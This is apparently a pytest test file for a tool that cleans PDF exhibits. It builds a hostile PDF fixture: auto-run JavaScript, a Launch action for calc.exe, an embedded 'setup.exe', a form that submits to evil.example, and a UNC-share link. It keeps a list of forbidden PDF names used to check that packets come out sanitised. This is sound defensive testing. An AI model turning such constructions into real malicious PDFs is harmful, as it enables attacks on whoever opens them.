"""A PDF exhibit with everything a viewer could run or open — a script run on opening (/OpenAction), page and form
field actions (/AA), a link that launches a program and chains a script, links to another file and to a web page
through javascript:, a form that submits, rich media, an attached file (in the document's names and in an
annotation), a script name tree, a dynamic (XFA) form, an outline item that scripts, an action chain that loops —
is added to a dispute and to a deposit application's checklist. Every claim packet (each destination, and one split
into parts so that a link's target page is in the other part), the deposit packet and the lawyer's bundle are made:
no object of any PDF Desk wrote carries active content (a plain https link may stay), the exhibit index says the
copy was cleaned, the exhibit's pages are there, and the vault keeps the original and its hash (`desk verify`
passes). The bundle holds the original itself, byte for byte, as its README promises counsel."""

from __future__ import annotations

import hashlib
import io
import re
import shutil
import subprocess
import tempfile
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from cli_runs import in_process
from factories import add_files, dispute, order
from folder_copies import Folders
from keyring_memory import MemoryKeyring, install
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from sqlalchemy import select

from desk.models import ChecklistItem, DepositApplication, Evidence, Platform
from desk.operations.bundles import ExportBundle, export_bundle
from desk.operations.deposits import CreateDepositApplication, create_deposit_application
from desk.operations.packets import MakeClaimPacket, MakeDepositPacket, make_claim_packet, make_deposit_packet
from desk.reports.destinations import default_destination, destinations
from desk.workspace import Workspace

TODAY = date(2026, 11, 23)
# Names that only active content uses: scripts, actions (the link to a web page aside), attached files, media, XFA.
FORBIDDEN = {
    "/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ResetForm",
    "/ImportData", "/EmbeddedFile", "/EmbeddedFiles", "/FileAttachment", "/RichMedia", "/RichMediaContent", "/Screen",
    "/Movie", "/Sound", "/XFA", "/NeedsRendering", "/FutureAction",
}  # fmt: skip
ACTIVE = re.compile(rb"(?:" + b"|".join(re.escape(name.encode()) for name in FORBIDDEN) + rb")(?![A-Za-z0-9])")


def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries: Any) -> DictionaryObject:
    return DictionaryObject({NameObject("/" + key): value for key, value in entries.items()})


def _script(code: str) -> DictionaryObject:
    return _dict(S=_name("/JavaScript"), JS=TextStringObject(code))


def _rect(x: float, y: float) -> ArrayObject:
    return ArrayObject(FloatObject(v) for v in (x, y, x + 120, y + 20))


def hostile_pdf() -> bytes:
    """Two pages of text with every kind of active content a PDF can carry."""
    from reportlab.pdfgen.canvas import Canvas

    made = io.BytesIO()
    canvas = Canvas(made)
    for n in (1, 2):
        canvas.drawString(72, 720, f"Supplier invoice, page {n}")
        canvas.showPage()
    canvas.save()
    writer = PdfWriter(clone_from=PdfReader(made))
    add, root = writer._add_object, writer.root_object
    first, second = writer.pages
    root[_name("/OpenAction")] = add(_script("app.alert('opened')"))
    root[_name("/AA")] = _dict(WC=_script("app.alert('closing')"))
    first[_name("/AA")] = _dict(O=_script("app.alert('page')"), C=_dict(S=_name("/Launch"), F=TextStringObject("x")))
    second[_name("/AA")] = _dict(O=_script("app.alert('page 2')"))
    program = DecodedStreamObject()
    program.set_data(b"MZ a program")
    program[_name("/Type")] = _name("/EmbeddedFile")
    spec = add(_dict(Type=_name("/Filespec"), F=TextStringObject("setup.exe"), EF=_dict(F=add(program))))
    names = _dict(
        JavaScript=add(_dict(Names=ArrayObject([TextStringObject("start"), add(_script("app.alert('named')"))]))),
        EmbeddedFiles=add(_dict(Names=ArrayObject([TextStringObject("setup.exe"), spec]))),
    )
    root[_name("/Names")] = add(names)
    step = _dict(S=_name("/Named"), N=_name("/NextPage"))
    looping = add(step)
    step[_name("/Next")] = looping  # an action chain that comes back to itself
    launch = _dict(S=_name("/Launch"), F=TextStringObject("calc.exe"), Win=_dict(F=TextStringObject("calc.exe")))
    launch[_name("/Next")] = ArrayObject([add(_script("app.alert('chained')")), looping])

    def link(y: float, **more: Any) -> IndirectObject:
        return add(_dict(Type=_name("/Annot"), Subtype=_name("/Link"), Rect=_rect(72, y), **more))

    amount = _dict(
        FT=_name("/Tx"),
        T=TextStringObject("amount"),
        V=TextStringObject("12.00"),
        AA=_dict(K=_script("event.value = 'x'"), F=_script("AFNumber_Format(2)")),
    )
    field = add(amount)
    widget = add(
        _dict(
            Type=_name("/Annot"),
            Subtype=_name("/Widget"),
            Rect=_rect(300, 600),
            Parent=field,
            AA=_dict(E=_script("app.alert('entered')")),
            A=_dict(S=_name("/SubmitForm"), F=_dict(FS=_name("/URL"), F=TextStringObject("https://evil.example/"))),
        )
    )
    amount[_name("/Kids")] = ArrayObject([widget])
    first[_name("/Annots")] = ArrayObject(
        [
            link(600, A=launch),
            link(570, A=_dict(S=_name("/URI"), URI=TextStringObject("javascript:app.alert('uri')"))),
            link(540, A=_dict(S=_name("/GoToR"), F=TextStringObject("\\\\host\\share\\x.pdf"), D=ArrayObject())),
            link(510, A=_dict(S=_name("/GoToE"), T=_dict(R=_name("/C"), N=TextStringObject("setup.exe")))),
            link(480, Dest=ArrayObject([second.indirect_reference, _name("/Fit")])),  # to the page in another part
            link(450, A=_dict(S=_name("/ImportData"), F=TextStringObject("data.fdf"))),
            link(420, A=_dict(S=_name("/ResetForm"))),
            link(300, A=_dict(S=_name("/FutureAction"), F=TextStringObject("x"))),  # a kind no viewer knows yet
            add(_dict(Type=_name("/Annot"), Subtype=_name("/RichMedia"), Rect=_rect(72, 390), RichMediaContent=spec)),
            add(_dict(Type=_name("/Annot"), Subtype=_name("/FileAttachment"), Rect=_rect(72, 360), FS=spec)),
            add(_dict(Type=_name("/Annot"), Subtype=_name("/Screen"), Rect=_rect(72, 330), A=_dict(S=_name("/Movie")))),
            widget,
        ]
    )
    forms = DecodedStreamObject()
    forms.set_data(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>")
    root[_name("/AcroForm")] = add(
        _dict(Fields=ArrayObject([field]), XFA=add(forms), NeedAppearances=BooleanObject(True))
    )
    entry = _dict(Title=TextStringObject("Open me"), A=_script("app.alert('outline')"))
    item = add(entry)
    outlines = add(_dict(Type=_name("/Outlines"), First=item, Last=item, Count=NumberObject(1)))
    entry[_name("/Parent")] = outlines
    root[_name("/Outlines")] = outlines
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def names_in(value: Any, seen: set[int]) -> Iterator[str]:
    """Every name (key or value) in a direct object, and the web addresses of URI actions, as `uri:ADDRESS`."""
    stack = [value]
    while stack:
        item = stack.pop()
        if isinstance(item, NameObject):
            yield str(item)
        elif isinstance(item, (DictionaryObject, ArrayObject)) and id(item) not in seen:
            seen.add(id(item))
            if isinstance(item, DictionaryObject):
                yield from (str(key) for key in item)
                if dict.get(item, "/S") == "/URI":
                    yield f"uri:{dict.get(item, '/URI')}"
                stack += [v for v in dict.values(item) if not isinstance(v, IndirectObject)]
            else:
                stack += [v for v in list.__iter__(item) if not isinstance(v, IndirectObject)]


def every_object(path_or_data: Path | bytes) -> list[Any]:
    """Every indirect object the file holds, by its cross-reference table and object streams, referenced or not."""
    data = path_or_data.read_bytes() if isinstance(path_or_data, Path) else path_or_data
    reader = PdfReader(io.BytesIO(data))
    numbers = {(n, gen) for gen, table in reader.xref.items() for n in table}
    numbers |= {(n, 0) for n in reader.xref_objStm}
    return [reader.trailer] + [reader.get_object(IndirectObject(n, gen, reader)) for n, gen in sorted(numbers)]


def active_content(path_or_data: Path | bytes) -> set[str]:
    """The names of active content in any object of the PDF (pypdf), and, where qpdf is on PATH, in its
    uncompressed form as well (every stream decoded, every object stream opened)."""
    found: set[str] = set()
    seen: set[int] = set()
    for obj in every_object(path_or_data):
        for name in names_in(obj, seen):
            if name in FORBIDDEN or (name.startswith("uri:") and not name.startswith("uri:https://")):
                found.add(name)
    if shutil.which("qpdf"):
        data = path_or_data.read_bytes() if isinstance(path_or_data, Path) else path_or_data
        with tempfile.TemporaryDirectory() as folder:
            given = Path(folder) / "given.pdf"
            given.write_bytes(data)
            qdf = subprocess.run(
                ["qpdf", "--qdf", "--object-streams=disable", str(given), "-"], capture_output=True, check=False
            )
        assert qdf.returncode in (0, 3), qdf.stderr  # 3: warnings only
        found |= {"qpdf:" + match.decode() for match in ACTIVE.findall(qdf.stdout)}
    return found


@dataclass
class Made:
    original: bytes
    sha256: str  # as the exhibit's record has it
    stored: Path  # its file in the vault
    packets: dict[str, list[Path]]  # destination code → its parts; "deposit": the deposit packet
    bundle: Path
    data: Path

    def text(self, code: str) -> str:
        """The packet's text, all its parts, its runs of white space as one space."""
        if code not in self.texts:
            pages = [page.extract_text() for part in self.packets[code] for page in PdfReader(part).pages]
            self.texts[code] = " ".join(" ".join(pages).split())
        return self.texts[code]

    texts: dict[str, str] = field(default_factory=dict)


@pytest.fixture(scope="module")
def made(template_folder: Path, tmp_path_factory: pytest.TempPathFactory, folders: Folders) -> Iterator[Made]:
    """A data folder with the hostile PDF as an exhibit of a dispute and as a document of a deposit application, and
    every packet and the bundle made from it (once for the module: making them is the slow part)."""
    root = tmp_path_factory.mktemp("hostile-pdf")
    data = root / "data"
    folders.copy(template_folder, data)
    original = hostile_pdf()
    (root / "invoice.pdf").write_bytes(original)
    with pytest.MonkeyPatch.context() as patch, Workspace.open(data, actor="tester") as ws:
        install(patch, MemoryKeyring())  # the bundle signs its manifest
        with ws.write() as session:
            bought = order(session, placed_on=date(2026, 10, 1))
            case = dispute(session, bought.lines[0], opened_on=date(2026, 11, 2))
            session.flush()
            dispute_id = case.id
        add_files(ws, [root / "invoice.pdf"], f"{dispute_id}", note="The supplier's invoice")
        request = CreateDepositApplication("Gadget Store", Platform.ALIEXPRESS, "10000 CNY", date(2026, 11, 2))
        application_id = create_deposit_application(ws, request).application_id
        with ws.write() as session:
            application = session.get_one(DepositApplication, application_id)
            document = ChecklistItem(code="invoice", label="Supplier invoice", required=False)
            application.checklist.append(document)
            session.flush()
            document_id = document.id
        add_files(ws, [root / "invoice.pdf"], f"checklist:{document_id}")
        packets = {}
        split = replace(default_destination(), code="split", name="Four pages a file", pages_per_file=4)
        for dest in [*destinations(), split]:
            out = root / f"{dest.code}.pdf"
            packets[dest.code] = list(make_claim_packet(ws, MakeClaimPacket(dispute_id, out, dest, TODAY)).parts)
        deposit = make_deposit_packet(ws, MakeDepositPacket(application_id, root / "deposit.pdf", today=TODAY))
        packets["deposit"] = list(deposit.parts)
        bundle = export_bundle(ws, ExportBundle(root / "bundle.zip", today=TODAY)).path
        with ws.read() as session:
            sha = session.scalars(select(Evidence.sha256).where(Evidence.original_name == "invoice.pdf")).one()
        stored = ws.vault.path_for(sha)
    yield Made(original, sha, stored, packets, bundle, data)


def test_the_hostile_pdf_has_what_the_packets_must_not() -> None:
    """The check below finds active content where there is some: in the exhibit as it was made."""
    assert {"/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/XFA", "/EmbeddedFiles"} <= active_content(
        hostile_pdf()
    )


def test_no_packet_carries_the_exhibits_scripts_actions_or_files(made: Made) -> None:
    assert len(made.packets["split"]) > 1, "the split packet should be in parts"
    for code, parts in made.packets.items():
        for path in parts:
            assert active_content(path) == set(), path.name
        assert "Supplier invoice, page 1" in made.text(code) and "Supplier invoice, page 2" in made.text(code)


def test_the_index_says_the_copy_was_cleaned(made: Made) -> None:
    for code in made.packets:
        said = "(the original's, kept unchanged; the copy shown was cleaned of active content: scripts, actions, links"
        assert said in made.text(code), code


def test_the_vault_keeps_the_original_and_its_hash(made: Made) -> None:
    assert made.stored.read_bytes() == made.original  # after every packet and the bundle were made from it
    assert hashlib.sha256(made.stored.read_bytes()).hexdigest() == made.sha256
    done = in_process("verify", data=made.data)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stdout + done.stderr


def test_the_bundle_keeps_the_original_and_its_summary_is_clean(made: Made) -> None:
    """The lawyer's bundle holds the evidence byte for byte as received (its manifest and load file give the
    vault's hash); the PDF Desk writes into it carries nothing active."""
    with zipfile.ZipFile(made.bundle) as bundle:
        held = [name for name in bundle.namelist() if name.endswith(".pdf")]
        originals = [name for name in held if name.startswith("evidence/") and "invoice" in name]
        assert originals and all(bundle.read(name) == made.original for name in originals)
        assert active_content(bundle.read("summary.pdf")) == set()
